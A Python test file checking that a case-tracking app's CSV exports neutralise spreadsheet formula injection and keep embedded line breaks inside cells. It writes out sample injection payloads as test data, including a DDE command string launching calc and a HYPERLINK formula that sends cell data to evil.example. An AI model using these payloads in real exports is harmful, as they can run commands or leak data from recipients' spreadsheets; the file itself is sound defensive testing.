"""The pages' CSV exports (components.export, what the overdue and workload pages download)
read back by Python's csv module: no cell a spreadsheet would run as a formula, and a CR or LF
inside a value stays inside its cell instead of starting a new row."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

from components.export import CASE_FIELDS, cases_csv, to_csv
from data.case_lists import ActiveFlag, ListedCase
from rules.clock import zone

TZ = zone("Asia/Bishkek")
NOW = datetime(2026, 3, 11, 6, 0, tzinfo=UTC)
HOSTILE = {
    "unit": "=cmd|'/C calc'!A0",
    "officer": "@SUM(A1)",
    "flag_comment": "\r=1+2",
}


def _case(**changes: object) -> ListedCase:
    fields: dict[str, object] = {
        "reg_no": "KUP-CSV-1",
        "district": "41711000000000",
        "region": "KG-GB",
        "category": "theft",
        "kind": "crime",
        "status": "overdue",
        "received_at": NOW - timedelta(days=3),
        "registered_at": NOW - timedelta(days=3),
        "deadline": NOW,
        "decision": None,
        "decided_at": None,
        "unit": HOSTILE["unit"],
        "officer": HOSTILE["officer"],
        "flagged": True,
        "priority": "normal",
        "late_registration": False,
        "summary": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "flag": ActiveFlag(1, HOSTILE["flag_comment"], "-pros", NOW),
    }
    return ListedCase(**{**fields, **changes})  # type: ignore[arg-type]


def _read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_case_export_neutralises_formulas_and_keeps_rows_whole() -> None:
    rows = _read(cases_csv([_case(), _case(reg_no="KUP-CSV-2", unit="-2+3")], TZ))
    assert len(rows) == 3  # header and two cases: the CR in a flag comment starts no row
    assert rows[0] == list(CASE_FIELDS)
    first = dict(zip(rows[0], rows[1], strict=True))
    assert first["unit"] == "'=cmd|'/C calc'!A0"
    assert first["officer"] == "'@SUM(A1)"
    assert first["flag_comment"] == "'\r=1+2"
    assert first["flag_by"] == "'-pros"  # text that merely starts with "-"
    assert first["deadline"] == "2026-03-11T12:00:00+06:00"  # times untouched
    assert dict(zip(rows[0], rows[2], strict=True))["unit"] == "'-2+3"
    for row in rows[1:]:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


def test_any_export_quotes_line_breaks_and_neutralises_every_leading_formula_character() -> None:
    values = [
        '=HYPERLINK("http://evil.example","x")',
        "+1",
        "-1",
        "@A1",
        "\t=1",
        "\r=1",
        "a\rb",
        "a\nb",
        "a\r\nb",
        "plain",
    ]
    text = to_csv([{"v": v, "n": i} for i, v in enumerate(values)], ["v", "n"], TZ)
    rows = _read(text)
    assert rows[0] == ["v", "n"]
    assert [(v, int(n)) for v, n in rows[1:]] == [
        ("'" + v if v[0] in "=+-@\t\r" else v, i) for i, v in enumerate(values)
    ]
    assert text.endswith("9\n")  # rows end in LF, as before
